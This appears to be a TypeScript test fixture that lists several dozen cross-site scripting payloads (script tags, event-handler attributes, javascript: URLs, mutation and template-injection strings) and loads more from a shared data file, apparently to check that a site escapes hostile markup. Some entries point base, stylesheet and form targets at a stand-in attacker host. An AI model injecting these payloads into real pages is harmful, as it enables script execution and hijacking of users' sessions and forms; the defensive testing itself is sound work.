import { existsSync, readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'

/** Ways by which text becomes a script where it is not written as text: each calls alert. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '" autofocus onfocus=alert(1) tabindex=1 x="',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<a href="javascript:alert(1)" autofocus>x</a>',
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
  'https://x.example/"onerror="alert(1)',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<form action="//evil.example/"><input name=csrf autofocus onfocus=alert(1)></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><video><source onerror=alert(1)></video>',
  '\u202e<img src=x onerror=alert(1)>\u0000<script\u000c>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
]

const ROOT = dirname(dirname(fileURLToPath(import.meta.url)))

/** The collected payloads, where they lie beside the project; empty, with a line that says so, where they do not. */
export function collectedMarkup(): string[] {
  const folder = process.env.BROADSHEET_DATA ?? join(ROOT, '../shared/data')
  const file = join(folder, 'hostile/markup.jsonl')
  if (!existsSync(file)) {
    console.warn(
      `Only our own ${HOSTILE.length} payloads are tried: there is no ${file} (BROADSHEET_DATA names another folder)`,
    )
    return []
  }
  const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean)
  return lines.map((line) => (JSON.parse(line) as { payload: string }).payload)
}
